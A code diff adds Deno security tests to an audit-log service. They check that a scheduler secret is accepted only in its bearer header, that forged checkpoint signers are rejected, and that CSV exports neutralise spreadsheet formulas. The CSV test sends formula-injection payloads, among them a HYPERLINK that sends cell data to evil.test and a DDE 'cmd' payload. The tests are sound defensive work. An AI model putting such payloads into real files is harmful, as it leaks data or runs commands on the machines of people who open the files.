@@ -207,6 +207,115 @@ Deno.test("AUD-F07: only the scheduler's secret makes a checkpoint", async () =>
   assert.equal((await checkpoint()).status, 200);
 });
 
+Deno.test("AUD-F15: the secret counts in its header alone, and only whole", async () => {
+  const post = (path: string, init: RequestInit) =>
+    fetch(`${url}/functions/v1/audit/${path}`, { method: "POST", ...init });
+  const before = (await (await get(ada, "checkpoint")).json()).tree_size;
+  ok(await ada.client.rpc("log_audit_event", { event_type: "data.read" }));
+  const attempts: [string, RequestInit][] = [
+    [`checkpoint?secret=${schedulerSecret}&authorization=Bearer%20${schedulerSecret}`, {}],
+    ["checkpoint", { body: schedulerSecret }],
+    ["checkpoint", { body: JSON.stringify({ secret: schedulerSecret }) }],
+    ["checkpoint", { headers: { apikey: schedulerSecret } }],
+    ["checkpoint", { headers: { cookie: `secret=${schedulerSecret}` } }],
+    ["checkpoint", { headers: { authorization: `Basic ${btoa(`x:${schedulerSecret}`)}` } }],
+    ["checkpoint", { headers: { authorization: schedulerSecret } }],
+    ["checkpoint", { headers: { authorization: `Bearer ${schedulerSecret.toUpperCase()}!` } }],
+    ["checkpoint", { headers: { authorization: `Bearer ${schedulerSecret},x` } }],
+    ["checkpoint", { headers: { authorization: `Bearer ${schedulerSecret.slice(1)}` } }],
+    ["checkpoint", { headers: { authorization: `Bearer ${"x".repeat(6000)}` } }],
+    ["checkpoint", { headers: { "x-forwarded-authorization": `Bearer ${schedulerSecret}` } }],
+  ];
+  for (const [path, init] of attempts) {
+    const answer = await post(path, init);
+    const text = await answer.text();
+    assert.equal(answer.status, 401, JSON.stringify(init));
+    assert.ok(!text.includes(schedulerSecret));
+  }
+  assert.equal((await (await get(ada, "checkpoint")).json()).tree_size, before);
+  // And the secret opens nothing else.
+  for (const path of ["export", "proof?id=x", "checkpoint"]) {
+    const answer = await fetch(`${url}/functions/v1/audit/${path}`, {
+      headers: { authorization: `Bearer ${schedulerSecret}`, apikey: publishableKey },
+    });
+    assert.equal(answer.ok, false, path);
+    await answer.body?.cancel();
+  }
+});
+
+Deno.test("AUD-F16: no cell of a CSV export begins a formula, whatever a client sends", async () => {
+  const mallory = await signUp("mallory");
+  await join(ada, acme, mallory, "viewer");
+  const formulas = [
+    '=HYPERLINK("https://evil.test?"&A1,"x")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\uff1d1+1",
+    '"=1+1',
+    "=1+1,=2+2",
+    ";=1",
+  ];
+  for (const formula of formulas) {
+    const answer = await fetch(`${url}/rest/v1/rpc/log_audit_event`, {
+      method: "POST",
+      headers: {
+        apikey: publishableKey,
+        authorization: `Bearer ${mallory.token}`,
+        "content-type": "application/json",
+        "user-agent": /^[\x20-\x7e]*$/.test(formula) ? formula : "=1",
+        "x-forwarded-for": "=cmd|' /C calc'!A0",
+      },
+      body: JSON.stringify({
+        event_type: "data.read",
+        organization_id: acme,
+        action: formula,
+        resource_type: formula,
+        resource_id: formula,
+        details: { [formula]: `\t${formula}\r\n=1+1` },
+      }),
+    });
+    assert.equal(answer.status, 200, await answer.text());
+  }
+  assert.equal((await checkpoint()).status, 200);
+  const csv = await (await bundleOf(ada, acme, "&format=csv")).text();
+  const records = csvRecords(csv);
+  const width = records[0]!.length;
+  assert.ok(formulas.every((formula) => csv.includes(formula.replaceAll('"', '""'))));
+  for (const record of records) {
+    assert.equal(record.length, width, "no value becomes two cells");
+    for (const cell of record) assert.doesNotMatch(cell, /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
+  }
+});
+
+Deno.test("AUD-F17: with the service role's key nobody stores a checkpoint that was not signed", async () => {
+  await actAndSign(ada, acme);
+  const genuine = (await (await get(ada, "checkpoint")).json()).note as string;
+  ok(await ada.client.rpc("log_audit_event", { event_type: "data.read" }));
+  ok(await service().rpc("seal_audit_log"));
+  const [head] = ok(await service().rpc("audit_tree_head"));
+  const [origin = "", , , , line = ""] = genuine.split("\n");
+  const note = `${origin}\n${head?.tree_size}\n${head?.root_hash}\n\n${line}\n`;
+  const [key] = await keys();
+  const bytes = (array: Uint8Array) => btoa(String.fromCharCode(...array));
+  const guess = bytes(crypto.getRandomValues(new Uint8Array(64)));
+  const attempts: [string, string][] = [
+    [bytes(key!.publicKey), "AUDIT_NOT_THE_KEY_HOLDER"],
+    [bytes(crypto.getRandomValues(new Uint8Array(32))), "AUDIT_KEY_NOT_ENDORSED"],
+  ];
+  for (const [public_key, code] of attempts) {
+    const { error } = await service().rpc("store_audit_checkpoint", {
+      tree_size: head?.tree_size ?? 0,
+      root_hash: head?.root_hash ?? "",
+      note,
+      signers: [{ name: origin, public_key, writer: guess }],
+    });
+    assert.equal(error?.details, code);
+  }
+  const answer = await checkpoint();
+  assert.equal((await answer.json()).signed, true);
+});
+
 Deno.test("AUD-F08: a proof leads from an entry to a signature, and to no other entry", async () => {
   await actAndSign(ada, acme);
   const [id] = idsIn(await (await bundleOf(ada, acme)).text()).slice(-1);
@@ -309,14 +418,14 @@ Deno.test("AUD-F13: a payload removed under a record leaves a log that verifies"
   const person = await signUp("gone");
   await join(ada, acme, person, "viewer");
   await actAndSign(person, acme, 2);
-  const removed = ok(
+  const [{ removed, next_after } = { removed: 0, next_after: "" }] = ok(
     await service().rpc("erase_subject", {
       user_id: person.id,
       reason: "asked to be forgotten",
       organization_id: acme,
     }),
   );
-  assert.ok(removed >= 2);
+  assert.ok(removed >= 2 && next_after === null);
   await actAndSign(ada, acme);
   const text = await (await bundleOf(ada, acme)).text();
   const { verdict } = await verify(text);
@@ -340,4 +449,17 @@ function idsIn(bundle: string): string[] {
     const record = line ? JSON.parse(line) : {};
     return record.type === "entry" ? [record.id] : [];
   });
+}
+
+/** The cells of a CSV document (RFC 4180). */
+function csvRecords(text: string): string[][] {
+  const records: string[][] = [[]];
+  for (
+    const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)
+  ) {
+    records.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
+    if (end === "\r\n") records.push([]);
+    if (end === "") break;
+  }
+  return records.filter((record) => record.length > 1);
 }
